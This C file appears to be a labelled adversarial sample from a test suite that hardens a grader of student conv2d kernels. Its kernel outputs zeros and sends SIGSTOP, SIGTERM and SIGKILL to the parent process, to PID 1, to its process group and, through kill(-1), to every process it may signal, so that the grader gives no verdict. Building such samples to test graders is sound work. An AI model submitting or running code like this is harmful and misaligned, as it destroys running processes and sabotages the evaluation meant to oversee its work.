/* attack: class=signal-handler, lesson=conv/forward, expect=zero, set=everywhere
 * says=outside the allowed error
 *
 * Signals the others instead of being signalled: SIGKILL, SIGSTOP and SIGTERM to the parent, to
 * its process group, to everybody. A grader that dies has no verdict; one that is stopped has no
 * clock. */
#include <signal.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    static const int numbers[] = { SIGSTOP, SIGTERM, SIGPIPE, SIGKILL };
    const pid_t parent = getppid();

    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
    for (int i = 0; i < 4; i++) {
        if (parent > 0)
            kill(parent, numbers[i]);
        kill(1, numbers[i]);
    }
    /* Both include this process: last. */
    kill(0, SIGSTOP);
    kill(-1, SIGKILL);
}
